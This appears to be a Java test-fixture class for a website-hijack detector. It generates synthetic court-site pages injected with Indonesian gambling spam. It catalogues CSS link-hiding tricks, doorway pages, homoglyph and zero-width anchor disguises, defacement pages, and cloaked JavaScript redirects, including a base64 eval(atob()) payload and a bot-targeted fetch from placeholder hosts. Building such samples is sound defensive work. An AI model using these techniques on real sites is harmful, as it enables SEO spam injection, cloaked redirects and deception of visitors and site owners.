package id.jagasitus.watch;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Pages as hijackers leave them (domain notes 3.2), made from techniques times vocabulary with a
 * fixed seed. The hosts end in {@code .example} or {@code .xyz}; none is called.
 */
final class InjectedPages {

  private static final String[] STRONG = {
    "slot gacor hari ini", "scatter hitam", "situs toto", "toto macau", "rtp live",
        "bandar togel terpercaya",
    "mahjong ways 2", "slot qris", "live casino", "sbobet", "bonus new member 100",
        "gates of olympus",
    "akun pro kamboja", "slot deposit pulsa", "prediksi togel", "idn poker", "slot88",
        "keluaran hk",
    "judi bola online", "daftar slot", "link slot gacor maxwin", "agen judi online terpercaya",
  };
  private static final String[] BRANDS = {
    "naga303",
    "hoki88",
    "rajatoto",
    "dewa4d",
    "mpo777",
    "sultanbet",
    "panen138",
    "mawartoto",
    "kudaslot",
    "pusat4d",
    "wdbos88",
    "gajahwin",
    "zeusqq",
    "planet168",
    "bosku99",
  };
  private static final String[] HOSTS = {
    "promo-sehat.example",
    "kursus-bahasa.xyz",
    "blog-resep.example",
    "t-shirt-murah.xyz",
    "cdn-assets.example",
    "wisata-alam.xyz",
  };
  private static final String[] HIDES = {
    "style=\"display:none\"",
    "style='display : none !important'",
    "style='visibility:hidden'",
    "style=\"position:absolute;left:-9999px\"",
    "style='position:fixed; top:-12345px'",
    "style='text-indent:-9999px'",
    "style='font-size:0'",
    "style='font-size:1px;line-height:1px'",
    "style='opacity:0'",
    "style='height:0;overflow:hidden'",
    "style='height:1px;width:1px;overflow:hidden'",
    "style='color:#fff;background:#ffffff'",
    "hidden",
    "class='jx-q'",
    "id='zz9'",
    "style='position:absolute;clip:rect(0,0,0,0)'",
    "style='transform:scale(0)'",
    "style='max-height:0px;overflow:hidden'",
    "style='margin-left:-5000px'",
    "style='z-index:-999;position:absolute;opacity:0.01'",
  };
  private static final String STYLE =
      "<style>.jx-q{position:absolute;left:-8000px}#zz9{display:none}</style>";
  private static final String MENU =
      "<nav><a href='/'>Beranda</a> <a href='/putusan'>Putusan</a> <a href='/jadwal'>Jadwal Sidang</a> "
          + "Majelis Hakim Panitera Pengganti Jaksa Penuntut Umum Imbauan</nav>";
  private static final String COURT =
      "<h1>Profil Pengadilan</h1><p>Pengadilan Negeri Contoh melayani masyarakat Kabupaten Contoh. Sidang digelar"
          + " Senin sampai Kamis. Pendaftaran perkara lewat e-Court. Panjar dibayar dengan QRIS.</p>";

  private final Random random;

  InjectedPages(long seed) {
    random = new Random(seed);
  }

  /** One page: the technique, where it lies, its text. */
  record Sample(String technique, String path, String html) {}

  /** {@code rounds} pages of every technique. */
  List<Sample> all(int rounds) {
    var samples = new ArrayList<Sample>();
    for (int round = 0; round < rounds; round++) {
      hidden(samples);
      shown(samples);
      doorways(samples);
      scripts(samples);
      disguised(samples);
      defaced(samples);
    }
    return samples;
  }

  private String one(String... of) {
    return of[random.nextInt(of.length)];
  }

  private String link(String anchor) {
    return "<a href='https://"
        + one(HOSTS)
        + "/"
        + one("", "id/", "p?ref=1")
        + "' rel='noopener follow'>"
        + anchor
        + "</a> ";
  }

  private String links(int count, String... anchors) {
    var out = new StringBuilder();
    for (int i = 0; i < count; i++) {
      out.append(link(one(anchors)));
    }
    return out.toString();
  }

  private static String page(String head, String body, String after) {
    return "<!doctype html><html lang=id><head><title>Profil - Pengadilan Negeri Contoh</title>"
        + head
        + "</head><body>"
        + MENU
        + COURT
        + body
        + "</body></html>"
        + after;
  }

  private void hidden(List<Sample> to) {
    for (String hide : HIDES) {
      add(
          to,
          "hidden " + hide,
          page(STYLE, "<div " + hide + ">" + links(1 + random.nextInt(6), STRONG) + "</div>", ""));
      add(
          to,
          "hidden brand " + hide,
          page(STYLE, "<div " + hide + ">" + links(1 + random.nextInt(4), BRANDS) + "</div>", ""));
    }
    add(to, "after body", page("", "", "<div>" + links(3, STRONG) + "</div>"));
    add(to, "after body brand", page("", "", links(2, BRANDS)));
    add(
        to,
        "marquee",
        page("", "<marquee height=0 width=0>" + links(3, STRONG) + "</marquee>", ""));
    add(
        to,
        "hidden text",
        page(
            "",
            "<div style='display:none'>"
                + one(STRONG)
                + ", "
                + one(STRONG)
                + ", "
                + one(STRONG)
                + "</div>",
            ""));
    add(
        to,
        "hidden own links",
        page(
            "",
            "<div style='display:none'><a href='/?p="
                + one(BRANDS)
                + "'>"
                + one(STRONG)
                + "</a><a href='/wp-content/uploads/"
                + one(BRANDS)
                + "/'>"
                + one(STRONG)
                + "</a></div>",
            ""));
    add(
        to,
        "font white",
        page("", "<font color='white' size='-7'>" + links(3, STRONG) + "</font>", ""));
    add(
        to,
        "hidden neutral many",
        page(
            "",
            "<div style='position:absolute;left:-9999px'>"
                + links(6, "klik", "website", "sumber")
                + "</div>",
            ""));
  }

  private void shown(List<Sample> to) {
    add(to, "footer links", page("", "<footer>" + links(4, STRONG) + "</footer>", ""));
    add(
        to,
        "one footer link",
        page("", "<footer>Hak cipta " + link(one(STRONG)) + "</footer>", ""));
    add(
        to,
        "go.id sister",
        page(
            "",
            "<footer><a href='https://dinas-lain.go.id/"
                + one(BRANDS)
                + "/'>"
                + one(STRONG)
                + "</a> <a href='https://dinas-lain.go.id/x'>"
                + one(STRONG)
                + "</a></footer>",
            ""));
    add(
        to,
        "short link",
        page(
            "",
            "<p>"
                + one(STRONG)
                + ": <a href='https://bit.ly/3abc'>LINK DAFTAR "
                + one(BRANDS)
                + "</a></p>"
                + "<p>Raih maxwin dan "
                + one(STRONG)
                + "</p>",
            ""));
    add(
        to,
        "picture link",
        page(
            "",
            "<a href='https://"
                + one(BRANDS)
                + ".xyz/'><img src='https://"
                + one(HOSTS)
                + "/b.gif' alt='"
                + one(STRONG)
                + "'></a>",
            ""));
    add(
        to,
        "article",
        "<html><head><title>"
            + one(STRONG)
            + " "
            + one(BRANDS)
            + "</title></head><body>"
            + MENU
            + "<article><h1>"
            + one(STRONG)
            + "</h1><p>Rasakan "
            + one(STRONG)
            + " bersama "
            + one(BRANDS)
            + ". Daftar sekarang dan nikmati "
            + one(STRONG)
            + ", "
            + one(STRONG)
            + ".</p></article></body></html>");
    add(
        to,
        "meta stuffing",
        page(
            "<meta name=keywords content='"
                + one(STRONG)
                + ", "
                + one(STRONG)
                + ", "
                + one(BRANDS)
                + "'><meta name=description content='"
                + one(STRONG)
                + " "
                + one(STRONG)
                + "'>",
            "",
            ""));
    add(
        to,
        "iframe",
        page(
            "",
            "<iframe src='https://"
                + one(BRANDS)
                + ".xyz/' style='position:fixed;width:100%;height:100%'></iframe>",
            ""));
    add(
        to,
        "refresh",
        page(
            "<meta http-equiv=refresh content='0; url=https://" + one(BRANDS) + ".xyz/'>", "", ""));
  }

  private void doorways(List<Sample> to) {
    String brand = one(BRANDS).toUpperCase(java.util.Locale.ROOT);
    add(
        to,
        "doorway",
        "<html ⚡ lang=id><head><title>"
            + brand
            + " : Link "
            + one(STRONG)
            + "</title><link rel=canonical href='https://"
            + one(HOSTS)
            + "/'><link rel=amphtml href='https://amp-"
            + one(HOSTS)
            + "/'><meta name=description content='"
            + one(STRONG)
            + "'></head><body><h1>"
            + brand
            + "</h1><p>"
            + one(STRONG)
            + " "
            + one(STRONG)
            + "</p><a href='https://"
            + one(HOSTS)
            + "/'>DAFTAR</a></body></html>");
    add(
        to,
        "doorway own canonical",
        "<html><head><title>"
            + brand
            + " Situs Resmi Terpercaya | Login &amp; Daftar</title><link rel=canonical"
            + " href='https://pn-contoh.go.id/app/?tunnel="
            + brand
            + "'></head><body><h1>"
            + brand
            + "</h1><p>"
            + brand
            + " adalah situs terpercaya dengan link alternatif. "
            + brand
            + " gampang menang, deposit cepat, withdraw cepat. Main di "
            + brand
            + " sekarang. Link login "
            + brand
            + ".</p><a href='https://"
            + one(HOSTS)
            + "/go'>LOGIN</a></body></html>");
    add(
        to,
        "doorway legal filler",
        "<html><head><title>"
            + one(STRONG)
            + " - "
            + brand
            + "</title></head><body><h1>"
            + one(STRONG)
            + "</h1><p>Menurut Pasal 303 KUHP dan Pasal 27 ayat (2) UU ITE, terdakwa perjudian diancam pidana penjara oleh majelis hakim"
            + " berdasarkan dakwaan penuntut umum dan barang bukti. "
            + one(STRONG)
            + " "
            + one(STRONG)
            + "</p><a href='https://"
            + one(HOSTS)
            + "/'>Daftar "
            + one(STRONG)
            + "</a></body></html>");
    add(
        to,
        "doorway rating",
        "<html><head><title>"
            + brand
            + " | "
            + one(STRONG)
            + "</title><script type='application/ld+json'>{\"@type\":"
            + "\"Product\",\"name\":\""
            + brand
            + "\",\"description\":\""
            + one(STRONG)
            + "\",\"aggregateRating\":{\"ratingValue\":\"4.9\"}}</script>"
            + "</head><body><p>Rp 10.000 minimal deposit</p></body></html>");
    add(
        to,
        "doorway english",
        "<html><head><title>Best Online Casino and Slot Machine Bonus</title></head><body><h1>Online Casino</h1><p>Play"
            + " online slots, free spins, sports betting, live dealer blackjack and roulette. No deposit bonus.</p><a href='https://"
            + one(HOSTS)
            + "/'>Play now</a></body></html>");
    add(
        to,
        "doorway thai",
        "<html lang=th><head><title>สล็อตเว็บตรง แตกง่าย บาคาร่า</title></head><body><h1>สล็อต</h1><p>คาสิโนออนไลน์ เว็บสล็อต"
            + " แทงบอลออนไลน์ สล็อตเว็บตรง</p><a href='https://"
            + one(HOSTS)
            + "/'>สมัคร</a></body></html>");
    add(
        to,
        "doorway chinese",
        "<html lang=zh><head><title>在线赌场 百家乐 老虎机</title></head><body><p>博彩 娱乐城 真人百家乐 澳门赌场</p><a href='https://"
            + one(HOSTS)
            + "/'>注册</a></body></html>");
  }

  private void scripts(List<Sample> to) {
    String target = "https://" + one(BRANDS) + ".xyz/";
    String packed =
        java.util.Base64.getEncoder()
            .encodeToString(
                ("location.href='" + target + "'//" + one(STRONG))
                    .getBytes(java.nio.charset.StandardCharsets.UTF_8));
    add(
        to,
        "script referrer",
        page(
            "<script>if(document.referrer.match(/google|bing/)){window.location.replace('"
                + target
                + "')}</script>",
            "",
            ""));
    add(
        to,
        "script agent",
        page(
            "<script>var b=/Googlebot|bingbot/i;if(b.test(navigator.userAgent)){fetch('"
                + target
                + "').then(r=>r.text()).then(t=>document.write(t))}</script>",
            "",
            ""));
    add(to, "script packed", page("", "<script>eval(atob('" + packed + "'))</script>", ""));
    add(
        to,
        "script foreign",
        page("<script src='https://" + one(BRANDS) + ".xyz/a.js'></script>", "", ""));
    add(
        to,
        "script moves",
        page("", "<script>window.top.location.href = \"" + target + "\";</script>", ""));
    add(
        to,
        "script writes",
        page(
            "",
            "<script>document.write('<div style=\"display:none\"><a href=\""
                + target
                + "\">"
                + one(STRONG)
                + "</a></div>')</script>",
            ""));
    add(
        to,
        "script unhides",
        page(
            "",
            "<div id=q>"
                + links(3, STRONG)
                + "</div><script>document.getElementById('q').style.display='none';</script>",
            ""));
  }

  private void disguised(List<Sample> to) {
    String[] anchors = {
      "sl0t g4c0r",
      "ѕlоt gаcоr",
      "s\u200bl\u200bo\u200bt g\u200ba\u200bc\u200bo\u200br",
      "𝐬𝐥𝐨𝐭 𝐠𝐚𝐜𝐨𝐫",
      "s<b>l</b>ot g<i>a</i>cor",
      "s l o t g a c o r",
      "S.L.O.T G.A.C.O.R",
      "ｓｌｏｔ　ｇａｃｏｒ",
      "slot&nbsp;gacor",
      "&#115;&#108;&#111;&#116; gacor",
      "SLOT-GACOR",
      "slot_gacor",
      "slotgacor",
      "ⓢⓛⓞⓣ ⓖⓐⓒⓞⓡ",
      "sIot gacor",
      "m4xw1n",
      "t0g3l h4r1 1n1",
      "🅂🄻🄾🅃 🄶🄰🄲🄾🅁",
      "slöt gäcör",
      "s\u00adlot ga\u00adcor"
    };
    for (String anchor : anchors) {
      add(
          to,
          "disguised " + anchor,
          page("", "<div style='display:none'>" + link(anchor) + "</div>", ""));
      add(
          to,
          "disguised text " + anchor,
          "<html><head><title>"
              + anchor.replaceAll("<[^>]+>", "")
              + "</title></head><body>"
              + MENU
              + "<h1>"
              + anchor
              + "</h1><p>"
              + anchor
              + " "
              + one(STRONG)
              + "</p>"
              + link(anchor)
              + "</body></html>");
    }
  }

  private void defaced(List<Sample> to) {
    String slogan =
        one(
            "Hacked by X-Team",
            "H4CKED BY anon",
            "Defaced by KucingLiar",
            "Owned By R00t",
            "Pwned by Mr.Z",
            "Touched by N00b",
            "Your security is low",
            "Indonesian Cyber Team was here",
            "Security is just an illusion",
            "Diretas oleh Tim Sakit Hati",
            "Website ini telah diretas");
    add(
        to,
        "defaced " + slogan,
        "<html><head><title>"
            + slogan
            + "</title></head><body bgcolor=black><center><h1>"
            + slogan
            + "</h1><p>Greetz to all</p></center></body></html>");
    add(
        to,
        "defaced body " + slogan,
        "<html><head><title>Pengadilan</title></head><body><center><img src=a.gif><p>"
            + slogan
            + "</p></center></body></html>");
  }

  private static void add(List<Sample> to, String technique, String html) {
    to.add(new Sample(technique, "/profil.html", html));
  }
}
